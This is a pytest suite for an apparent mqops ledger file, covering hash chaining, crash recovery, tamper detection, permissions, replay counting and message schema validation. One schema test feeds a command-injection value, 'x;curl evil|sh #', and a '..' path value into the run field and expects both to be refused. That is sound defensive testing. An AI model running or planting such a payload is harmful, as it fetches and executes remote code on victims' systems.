"""The ledger file: what is written stays, a crash loses nothing, a change is seen."""

from __future__ import annotations

import errno
import itertools
import json
import multiprocessing
import os
import re
import stat
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mqops.actions import GATE
from mqops.errors import LakeError, LedgerBroken, NewerFormat, SettingsError
from mqops.ledger.core.identity import PlanIdentity
from mqops.ledger.core.marker import LaneToken, Marker, MarkerKind, MarkerRow, about_from_json, unpack
from mqops.ledger.core.replays import CAPPED, TO_BACKOUT_QUEUE, put_in_runs, undone_plans
from mqops.ledger.file import LedgerFile
from mqops.ledger.writer import writer_of

PLAN = PlanIdentity(run="run 1", digest="ab" * 32)


def marker(number: int, kind: str = "acted", plan: PlanIdentity = PLAN) -> Marker:
    msg_id = plan.marker_id(0, number, kind)
    row = (
        number,
        f"key{number}",
        "00" * 24,
        "FWD",
        "rule-1",
        "Ä.Q",
        "QM",
        2053 if kind == "failed" else None,
        "ab" * 16,
    )
    return Marker(
        **{"unit": msg_id.hex(), "run": plan.run, "plan": plan.digest, "kind": kind, "at": "now"},
        **{"lane": 0, "first": number, "next": number + 1, "rows": (row,)},
    )


def ledger(tmp_path) -> LedgerFile:
    clock = itertools.count()
    return LedgerFile(tmp_path / "QM1", lambda: f"t{next(clock)}")


def add(file: LedgerFile, *markers: Marker) -> int:
    with writer_of(file) as writer:
        return writer.add(markers)


def test_lines_are_chained_and_read_back(tmp_path):
    file = ledger(tmp_path)
    assert add(file, marker(0), marker(1)) == 2
    assert add(file, marker(2, "failed")) == 1
    entries = list(file.entries())
    assert [entry["seq"] for entry in entries] == [1, 2, 3]
    assert list(file.about("Ä.Q")) == entries
    assert [entry["prev"] for entry in entries[1:]] == [entry["hash"] for entry in entries[:-1]]
    assert list(file.markers(plan=PLAN)) == [marker(0), marker(1), marker(2, "failed")]
    assert [found.first for found in file.markers(kind="failed")] == [2]
    assert list(file.markers(plan=PlanIdentity(run="run 2", digest=PLAN.digest))) == []


def test_an_outcome_is_read_back(tmp_path):
    file = ledger(tmp_path)
    seen = Marker(unit="00", run=PLAN.run, plan=PLAN.digest, kind="outcome", at="now", outcome="consumed")
    add(file, seen)
    assert list(file.markers(plan=PLAN)) == [seen]


@pytest.mark.parametrize(
    ("action", "rule_key", "msg_id", "runs"),
    [
        ("FWD", "rule-1", "ab" * 24, 2),
        ("DISCARD", "rule-1", "ab" * 24, 0),  # nothing is put
        ("FWD", CAPPED, "ab" * 24, 0),  # quarantine is no replay
        ("FWD", "rule-1", "00" * 24, 0),  # no identifier
    ],
)
def test_MAXREPLAY_counts_the_runs_that_put_a_message_with_its_id(action, rule_key, msg_id, runs):
    row = MarkerRow(0, "key", msg_id, action, rule_key, "Q", "QM")
    acted = [replace(marker(0), run=run, rows=(row,)) for run in ("r1", "r1", "r2")]
    assert {key: before.runs for key, before in put_in_runs(acted).items()} == ({msg_id: runs} if runs else {})


def test_MAXREPLAY_and_BACKOFF_do_not_count_what_an_undo_took_back():
    def acted(run: str, action: str, hour: int = 9) -> Marker:
        row = MarkerRow(0, "key", "ab" * 24, action, "rule-1", "Q", "QM")
        return replace(marker(0), run=run, rows=(row,), at=f"2026-11-26T{hour:02}:00:00.000000Z")

    done = [acted("r1", "FWD", 8), acted("r2", "FWD", 10), acted("undo of r2", "RETURN", 11)]
    assert put_in_runs(done[:2])["ab" * 24].last == done[1].at
    assert put_in_runs(done)["ab" * 24].last == done[0].at
    assert put_in_runs(done)["ab" * 24].runs == 1
    assert put_in_runs([*done, acted("undo of r1", "RETURN")]) == {}


def test_an_undo_takes_back_the_put_of_the_run_that_it_undoes():
    """Two messages have one MsgId: the first was put by r1, the second one by r2."""

    def acted(run: str, action: str, rule_key: str = "rule-1") -> Marker:
        row = MarkerRow(0, "key", "ab" * 24, action, rule_key, "Q", "QM")
        return replace(marker(0), run=run, plan=f"plan of {run}", rows=(row,))

    about = {"undoes": "r1", "undoes_plan": "plan of r1"}
    issued = replace(marker(0, "issued"), run="undo", plan="plan of undo", about=about)
    done = [acted("r1", "FWD"), acted("r2", "FWD", f"{GATE}s:c"), acted("undo", "RETURN")]
    assert put_in_runs(done, undone_plans([issued])) == {}
    assert put_in_runs([*done, acted("undo", "RETURN")], undone_plans([issued])) == {}
    both = [acted("r1", "FWD"), replace(acted("r2", "FWD"), at="later"), acted("undo", "RETURN")]
    assert put_in_runs(both, undone_plans([issued]))["ab" * 24] == (1, "later")


@pytest.mark.parametrize("text", ["{", "[]", "1", '{"approved_by": ["secret"]}', '{"comment": "secret'])
def test_people_of_a_job_that_are_no_JSON_are_one_line(text):
    with pytest.raises(SettingsError, match=r'^MQOPS_ABOUT is not a JSON object such as \{"approved_by"') as raised:
        about_from_json(text)
    assert "secret" not in str(raised.value)
    assert about_from_json('{"approved_by": "carol"}') == {"approved_by": "carol"}


@pytest.mark.parametrize(
    ("action", "rule_key"),
    [("FWD", f"{GATE}s:c"), ("FWD", CAPPED), ("FWD", TO_BACKOUT_QUEUE), ("DEADLETTER", "DEADQ")],
)
def test_an_undo_of_what_is_no_replay_takes_none_away(action, rule_key):
    def acted(run: str, action: str, rule_key: str = "rule-1") -> Marker:
        row = MarkerRow(0, "key", "ab" * 24, action, rule_key, "Q", "QM")
        return replace(marker(0), run=run, rows=(row,))

    done = [acted("r1", "FWD"), acted("r2", action, rule_key), acted("undo of r2", "RETURN")]
    assert put_in_runs(done)["ab" * 24].runs == 1
    assert put_in_runs([*done, acted("undo of r1", "RETURN")]) == {}


def test_file_and_folder_are_private(tmp_path):
    file = ledger(tmp_path)
    add(file, marker(0))
    assert stat.S_IMODE(file.path.stat().st_mode) == 0o600
    assert stat.S_IMODE(file.folder.stat().st_mode) == 0o700


def test_no_two_identifiers_are_the_same():
    """A line with the identifier of another would not be recorded, a marker with that of another would end its lane."""
    found = []
    for run, digest in (("r1", "d1"), ("r1", "d2"), ("r2", "d1")):
        plan = PlanIdentity(run=run, digest=digest)
        found += [
            plan.marker_id(lane, first, kind) for lane in (0, 1) for first in (0, 1) for kind in ("acted", "failed")
        ]
        found += [named(lane) for named in (plan.last_id, plan.lane_token_id) for lane in (0, 1)]
        found += [plan.outcome_id(at, number) for at in ("now", "later") for number in (0, 1)]
        found += [plan.issued_id(), plan.markers(), plan.resumed_id("now"), plan.resumed_id("later")]
    assert len(found) == len(set(found))
    assert {len(one) for one in found} == {24}


def test_a_unit_of_work_is_recorded_once(tmp_path):
    file = ledger(tmp_path)
    assert add(file, marker(0), marker(0)) == 1
    assert add(file, marker(0), marker(1)) == 1
    with writer_of(file) as writer:  # a drain adds batch after batch
        assert [writer.add([marker(number)]) for number in (2, 3, 2, 1)] == [1, 1, 0, 0]
    assert len(list(file.entries())) == 4


@pytest.mark.parametrize("cut", [1, 20, 300])
def test_a_half_written_last_line_is_cut_off(tmp_path, cut):
    file = ledger(tmp_path)
    add(file, marker(0), marker(1))
    whole = file.path.read_bytes()
    file.path.write_bytes(whole[:-cut])
    assert [found.first for found in file.markers()] == [0]
    assert add(file, marker(1)) == 1
    assert [entry["first"] for entry in file.entries()] == [0, 1]


@pytest.mark.parametrize(
    ("damage", "text"),
    [
        (lambda lines: [lines[0].replace(b"FWD", b"IGN"), *lines[1:]], "Line 1 of the ledger is damaged"),
        (lambda lines: [lines[0], lines[2]], "Line 2 of the ledger does not follow"),  # one removed
        (lambda lines: lines[1:], "Line 1 of the ledger does not follow"),  # the first removed
        (lambda lines: [lines[0], lines[0], *lines[1:]], "Line 2 of the ledger does not follow"),  # one twice
        (lambda lines: [lines[0], lines[2], lines[1]], "Line 2 of the ledger does not follow"),  # exchanged
        (lambda lines: [lines[0], b"\n", *lines[1:]], "Line 2 of the ledger is damaged"),  # an empty line
    ],
)
def test_a_change_is_seen(tmp_path, damage, text):
    file = ledger(tmp_path)
    add(file, marker(0), marker(1), marker(2))
    file.path.write_bytes(b"".join(damage(file.path.read_bytes().splitlines(keepends=True))))
    with pytest.raises(LedgerBroken, match=text):
        list(file.entries())


def test_nothing_is_added_to_a_ledger_whose_last_line_was_changed(tmp_path):
    file = ledger(tmp_path)
    add(file, marker(0))
    file.path.write_bytes(file.path.read_bytes().replace(b"FWD", b"IGN"))
    with pytest.raises(LedgerBroken, match="its hash is wrong"):
        add(file, marker(1))


def test_a_full_disk_leaves_the_ledger_as_it_was(tmp_path, monkeypatch):
    file = ledger(tmp_path)
    add(file, marker(0))
    before = file.path.read_bytes()
    whole_write = os.write

    def full(descriptor, content):
        whole_write(descriptor, bytes(content)[:10])
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    with writer_of(file) as writer:
        monkeypatch.setattr(os, "write", full)
        with pytest.raises(LakeError, match="No space left on device; make room on the disk, no message was lost"):
            writer.add([marker(1)])
        monkeypatch.undo()
        assert file.path.read_bytes() == before
        assert writer.add([marker(1)]) == 1
    assert [entry["first"] for entry in file.entries()] == [0, 1]


def _add_many(folder, start):
    file = LedgerFile(folder, lambda: "t")
    for number in range(start, start + 25):
        add(file, marker(number))


def test_D11_several_processes_write_one_unbroken_ledger(tmp_path):
    context = multiprocessing.get_context("fork")
    processes = [context.Process(target=_add_many, args=(tmp_path / "QM1", start)) for start in (0, 25, 10)]
    for process in processes:
        process.start()
    for process in processes:
        process.join()
        assert process.exitcode == 0
    assert sorted(entry["first"] for entry in ledger(tmp_path).entries()) == list(range(50))


texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
hexes = st.binary(max_size=24).map(bytes.hex)
numbers = st.integers(0, 2**53 - 1)


@settings(deadline=None)
@given(
    rows=st.lists(
        st.tuples(numbers, texts, hexes, *[texts] * 4, st.none() | st.integers(0, 9999), texts),
        max_size=3,
    ),
    absent=st.lists(numbers, max_size=3),
    run=st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9._+=:@-]{0,199}", fullmatch=True),
)
def test_a_marker_comes_back_from_its_message_as_it_was(rows, absent, run):
    original = Marker(
        **{"unit": "ab" * 24, "run": run, "plan": "cd" * 32, "kind": "acted", "at": "now", "lane": 3},
        **{"first": 4, "next": 9, "last": True, "rows": tuple(rows), "absent": tuple(absent)},
    )
    assert Marker.unpack(original.pack()) == original


def test_a_lane_token_comes_back_from_its_message_as_it_was():
    lane_token = LaneToken(run="r", plan="p", lane=7, next=400)
    assert LaneToken.unpack(lane_token.pack()) == lane_token


GOOD = marker(0, plan=PlanIdentity(run="r", digest="p"))
LANE_TOKEN = LaneToken(run="r", plan="p", lane=0, next=3)


def changed(message: Marker | LaneToken, **members: object) -> bytes:
    return json.dumps({**json.loads(message.pack()), **members}).encode()


@pytest.mark.parametrize(
    ("body", "text"),
    [
        (b"", "body: json_invalid"),
        (b"[]", "body: dict_type"),
        (b"{}", "body: union_tag_not_found"),
        (b"\xff", "body: json_invalid"),
        (b'{"unit":' + b"[" * 100_000, "body: json_invalid"),  # nested
        (changed(GOOD, v=0), "v: literal_error"),
        (changed(GOOD, rows=[[1, 2]]), "rows: string_type"),
        (changed(GOOD, left=[]), "left: dict_type"),
        (changed(GOOD, lane=float("inf")), "lane: int_type"),
        (changed(GOOD, lane=True), "lane: int_type"),
        (changed(GOOD, next=-1), "next: greater_than_equal"),
        (changed(GOOD, first=2**53), "first: less_than_equal"),
        (changed(GOOD, unit="x" * 48), "unit: string_pattern_mismatch"),
        (changed(GOOD, run="x;curl evil|sh #"), "run: value_error"),
        (changed(GOOD, run=".."), "run: value_error"),
        (changed(GOOD, put={"user": "alice"}), "body: extra_forbidden"),  # who put it is not for the message to say
        (changed(LANE_TOKEN, next=1e999), "next: int_type"),
        (changed(LANE_TOKEN, lane="x"), "lane: int_type"),
        (changed(LANE_TOKEN, next=10**400), "next: less_than_equal"),
    ],
)
def test_a_message_that_does_not_fit_the_schema_is_refused(body, text):
    with pytest.raises(LedgerBroken, match=f"is neither marker nor lane token: {text}"):
        unpack(body)


def test_a_marker_of_a_newer_version_is_refused():
    told = "was written by a newer mqops (format 9; this version reads up to 1): upgrade mqops, nothing was changed"
    with pytest.raises(NewerFormat, match=re.escape(f"A line of the ledger, of run {GOOD.run}, {told}")):
        Marker.from_json(GOOD.to_json() | {"v": 9})
    with pytest.raises(NewerFormat, match=re.escape(f"A message of a run on MQOPS.LEDGER {told}")):
        unpack(changed(GOOD, v=9, kind="of a later version"))


@pytest.mark.parametrize(
    "wrong",
    [
        {"v": None},
        {"kind": "ticket"},
        {"kind": []},  # which cannot be looked up
        {"unit": None},
        {"first": "x"},
        {"first": 1.5},
        {"rows": 5},
        {"rows": [[1, "key"]]},
        {"rows": [["x", "key", "00", "FWD", "r", "Q", "QM", None]]},
        {"absent": ["x"]},
        {"left": []},
    ],
)
def test_a_line_that_is_no_marker_is_refused(wrong):
    with pytest.raises(LedgerBroken):
        Marker.from_json(GOOD.to_json() | wrong)


def test_a_line_of_an_earlier_version_is_read_and_written_as_it_was():
    row = [7, "key", "00" * 24, "FWD", "rule-1", "Q", "QM", None]  # without the body's digest
    old = {"unit": "ab" * 24, "v": 1, "run": "run", "plan": "plan", "kind": "acted", "at": "now", "lane": 1}
    old |= {"first": 0, "next": 1, "last": True, "rows": [row], "absent": [3]}
    read = Marker.from_json(old | {"seq": 1, "recorded_at": "now", "prev": "", "hash": ""})
    assert (read.kind, read.rows, read.absent) == (MarkerKind.ACTED, (MarkerRow(*row),), (3,))
    assert json.dumps(read.to_json()) == json.dumps(old | {"rows": [[*row, ""]]})


def test_the_words_that_stand_in_ledgers_are_these():
    assert {*MarkerKind} == {"issued", "acted", "failed", "resumed", "outcome", "revealed", "pruned"}


def test_a_marker_is_not_a_lane_token():
    assert (unpack(GOOD.pack()), unpack(LANE_TOKEN.pack())) == (GOOD, LANE_TOKEN)
    with pytest.raises(LedgerBroken, match="is a lane token, not a marker"):
        Marker.unpack(LANE_TOKEN.pack())
    with pytest.raises(LedgerBroken, match="is a marker, not a lane token"):
        LaneToken.unpack(GOOD.pack())


def test_what_was_changed_in_a_ledger_that_is_open_is_refused(tmp_path):
    file, other = ledger(tmp_path), PlanIdentity(run="run 2", digest="cd" * 32)
    add(file, *[marker(number, plan=other) for number in range(3)], marker(0), marker(1, plan=other))
    assert [one.first for one in file.markers(plan=PLAN)] == [0]
    lines = file.path.read_bytes().splitlines(keepends=True)
    damaged = [b"?" * (len(line) - 1) + b"\n" if b"run 2" in line else line for line in lines[:-1]]
    with file.path.open("r+b") as stream:  # in place: the same file, of the same size
        stream.writelines(damaged)
    with pytest.raises(LedgerBroken, match="Line 1 of the ledger is damaged or has been changed"):
        file.refuse_broken()
    add(file, marker(5), marker(6, "failed"))
    assert [one.first for one in file.markers(plan=PLAN)] == [0, 5, 6]
    assert [one.first for one in file.markers(plan=PLAN, kind="failed")] == [6]


def test_a_ledger_that_is_another_one_is_read_anew(tmp_path):
    file, copy = ledger(tmp_path), tmp_path / "copy"
    add(file, marker(0))
    copy.write_bytes(file.path.read_bytes())
    add(file, marker(1), marker(2))
    assert [one.first for one in file.markers(plan=PLAN)] == [0, 1, 2]
    file.path.write_bytes(copy.read_bytes())  # in place: the same file to the system
    assert [one.first for one in file.markers(plan=PLAN)] == [0]
    add(file, marker(3))
    with file.path.open("ab") as stream:
        stream.write(file.path.read_bytes().splitlines(keepends=True)[-1][:-5])  # what a crash leaves
    assert [one.first for one in file.markers(plan=PLAN)] == [0, 3]
